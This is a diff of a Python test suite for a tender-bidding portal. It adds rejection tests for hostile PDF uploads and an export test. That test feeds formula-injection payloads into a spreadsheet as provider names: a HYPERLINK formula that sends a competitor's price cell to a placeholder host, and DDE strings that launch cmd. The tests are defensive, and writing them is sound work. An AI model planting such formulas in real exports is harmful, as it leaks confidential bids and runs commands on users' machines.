@@ -36,6 +36,14 @@ from tenders.models import Question, Tender
 from tenders.services import tender_approve, tender_close, tender_publish, tender_submit_for_approval
 from tests import factories
 from tests.bids.test_attachments import docx_bytes, image_bytes, pdf_assemble, pdf_bytes, stored_files, zip_bytes
+from tests.bids.test_filetypes import (
+    HOSTILE_PDFS,
+    encrypted_pdf,
+    pdf_deeply_nested,
+    pdf_object_stream_bomb,
+    pdf_truncated,
+    pdf_unlisted_action,
+)
 from tests.helpers import full_content, open_bids, qualify_all, seat_panel, submitted_call
 from tests.tenders.test_api import call_payload
 
@@ -271,6 +279,18 @@ UPLOADS = [
     ),
     Upload("PDF with an embedded .exe", "paketti.pdf", pdf_with_embedded_exe, code="active_content"),
     Upload("PDF with a 1 GiB Flate stream", "pommi.pdf", pdf_flate_bomb, code="compression_bomb"),
+    # read by a PDF parser (issue 17): every object, wherever it is packed, and nothing it cannot read whole
+    *(Upload(f"PDF with {what}", "liite.pdf", make, code="active_content") for what, make in HOSTILE_PDFS),
+    Upload("PDF cut short", "katkennut.pdf", pdf_truncated, code="corrupt_file"),
+    Upload(
+        "PDF with an object left out of its cross-reference",
+        "piilo.pdf",
+        pdf_unlisted_action,
+        code="uninspectable_file",
+    ),
+    Upload("PDF nested 150 deep", "syva.pdf", pdf_deeply_nested, code="uninspectable_file"),
+    Upload("PDF whose object stream unpacks to 30 MB", "pommi2.pdf", pdf_object_stream_bomb, code="compression_bomb"),
+    Upload("PDF encrypted without a password to open", "salattu.pdf", lambda: encrypted_pdf(""), code="encrypted_file"),
     Upload("ELF executable renamed .pdf", "ohjelma.pdf", ELF, code="unsupported_type"),
     Upload("PE executable renamed .docx", "ohjelma.docx", PE, code="unsupported_type"),
     Upload("self-extracting archive named .docx", "paketti.docx", lambda: PE + docx_bytes(), code="unsupported_type"),
@@ -1002,6 +1022,28 @@ def test_html_and_script_in_every_text_field_are_shown_escaped_in_the_portal_and
     assert chain_is_intact()
 
 
+# --- text that a spreadsheet would run: the comparison XLSX writes it as text (issue 17) --------------------------
+
+# Providers' names that a spreadsheet takes for formulas: a link that sends a neighbouring cell (a competitor's
+# price) away, and the DDE and arithmetic forms of OWASP's CSV-injection list.
+EXPORT_NAMES = [
+    '=HYPERLINK("http://127.0.0.1:9/?p="&D4,"Avaa tarjous")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+def test_formulas_in_providers_names_are_text_in_the_comparison_xlsx(authority, officer, client_for):
+    from tests.evaluation.test_exports import cells, comparison_xlsx
+
+    found = cells(comparison_xlsx(authority, officer, client_for, EXPORT_NAMES, lot_title="=1+1"))
+
+    assert [cell.coordinate for cell in found if cell.data_type == "f"] == []
+    shown = {cell.value for cell in found if cell.data_type == "s"}
+    assert set(EXPORT_NAMES) <= shown
+
+
 # --- file:// and http:// in what reaches the PDF renderer: nothing is ever fetched --------------------------------
 
 
@@ -1136,6 +1178,7 @@ def test_the_corpus_size(capsys):
         "names × (organisation, person, contact)": len(NAMES) * 3,
         "names in the portal's registration": 3,
         "text fields, each with <script>, <img onerror> and <svg onload>": len(TEXT_FIELDS),
+        "formulas as names in the comparison XLSX": len(EXPORT_NAMES),
         "fetches from what the renderer is given": len(fetch_vectors("http://127.0.0.1:9")) * 2,
     }
     total = sum(sizes.values())
